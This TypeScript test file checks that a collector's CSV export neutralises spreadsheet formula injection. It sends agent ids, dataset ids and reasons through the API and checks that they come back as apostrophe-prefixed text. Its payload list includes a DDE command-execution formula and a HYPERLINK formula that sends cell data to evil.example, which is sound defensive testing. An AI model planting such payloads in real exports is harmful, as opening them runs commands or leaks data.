// Fault suite, abuse of the collector: the CSV export. Agent ids, dataset ids and reasons come from
// the agents; a spreadsheet opening the export must never see one of them as a formula. Reports
// carrying formula payloads go through the real API; the export, parsed as RFC 4180, has each of them
// as text (an apostrophe first), unchanged otherwise; and a property over arbitrary strings holds.
import fc from 'fast-check';
import t from 'tap';
import { csvCell } from '../../src/collector/export-csv.js';
import { startApi } from '../collector/api-fixture.js';
import { sqliteBackend } from '../collector/store-backends.js';
import { demoBase, vary } from '../collector/store-fixture.js';

const base = demoBase(t);

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?q="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1\r\n=2',
];
/** What a spreadsheet treats as a formula when a cell starts with it. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** RFC 4180: CRLF rows, fields in quotes when they hold a comma, quote or line break, quotes doubled. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) throw new Error('the CSV does not end with CRLF');
  return rows;
}

t.test('the CSV export has every formula payload as text', async (t) => {
  const api = await startApi(t, sqliteBackend);
  let seq = 0;
  for (const payload of PAYLOADS) {
    // The payload as the agent's id (its token's subject), a dataset's id and a check's reason.
    const { token } = await api.store.createToken({ kind: 'agent', subject: payload });
    const report = vary(base(), { agentId: payload, seq: ++seq, reportId: `csv-${seq}` });
    const dataset = report.datasets[0];
    if (!dataset) throw new Error('the demo report has a dataset');
    dataset.id = payload;
    const finding = dataset.findings[0];
    if (finding) finding.reason = payload;
    report.datasets = [dataset];
    t.equal((await api.post(report, { token })).status, 201, `stored: ${JSON.stringify(payload)}`);
  }
  const answer = await api.get('/api/v1/export.csv');
  t.equal(answer.status, 200);
  t.match(answer.headers['content-type'], /^text\/csv/);
  const rows = parseCsv(answer.text);
  const header = rows[0] ?? [];
  const column = (name: string) => header.indexOf(name);
  let neutralised = 0;
  let dangerous = 0;
  for (const row of rows.slice(1)) {
    t.equal(row.length, header.length, 'every row has every column');
    for (const cell of row) if (FORMULA_START.test(cell)) dangerous++;
    for (const name of ['agent', 'dataset', 'reason']) {
      const cell = row[column(name)] ?? '';
      if (cell === '') continue;
      const payload = PAYLOADS.find((p) => cell === `'${p}`);
      if (payload !== undefined) neutralised++;
    }
  }
  t.equal(dangerous, 0, 'no cell starts with = + - @, a tab or a CR');
  const agents = new Set(rows.slice(1).map((row) => row[column('agent')]));
  for (const payload of PAYLOADS) t.ok(agents.has(`'${payload}`), `agent ${JSON.stringify(payload)} is there as text`);
  t.ok(neutralised >= PAYLOADS.length * 2, 'agent and dataset cells (and reasons) neutralised, otherwise unchanged');
  t.comment(
    `CSV export: ${PAYLOADS.length} formula payloads as agent id, dataset id and reason; ${rows.length - 1} rows, ${neutralised} cells neutralised with a leading apostrophe, ${dangerous} cells starting with = + - @ TAB CR`,
  );
});

t.test('property: no cell of any string starts a formula, and the text is kept', async (t) => {
  let runs = 0;
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ',', '\n'), fc.string()).map(([a, b]) => a + b),
  );
  fc.assert(
    fc.property(text, (value) => {
      runs++;
      const [row] = parseCsv(`${csvCell(value)}\r\n`);
      const cell = row?.[0] ?? '';
      if (row?.length !== 1) return false;
      if (FORMULA_START.test(cell)) return false;
      return cell === value || cell === `'${value}`;
    }),
    { numRuns: 5000 },
  );
  t.pass('held');
  t.comment(`csvCell: ${runs} arbitrary strings, none a formula once exported, none changed but for the apostrophe`);
});
